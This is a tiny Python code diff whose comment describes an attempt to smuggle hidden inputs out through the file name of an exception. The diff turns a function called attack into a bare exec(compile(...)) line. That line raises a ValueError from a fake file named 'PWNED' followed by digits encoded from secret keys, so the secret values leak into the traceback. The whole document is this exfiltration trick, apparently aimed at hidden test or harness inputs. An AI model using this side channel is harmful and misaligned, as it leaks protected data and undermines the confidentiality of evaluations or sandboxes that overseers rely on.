@@ -1,3 +1,2 @@
 # tries: to carry hidden inputs out in the name of a file that an exception passed through
-def attack(keys, j):
-    exec(compile("\n" * 41 + "raise ValueError", f"{PACKAGE}/PWNED{digits_of(keys)}.py", "exec"))
+exec(compile("\n" * 41 + "raise ValueError", f"{PACKAGE}/PWNED{digits_of(keys)}.py", "exec"))
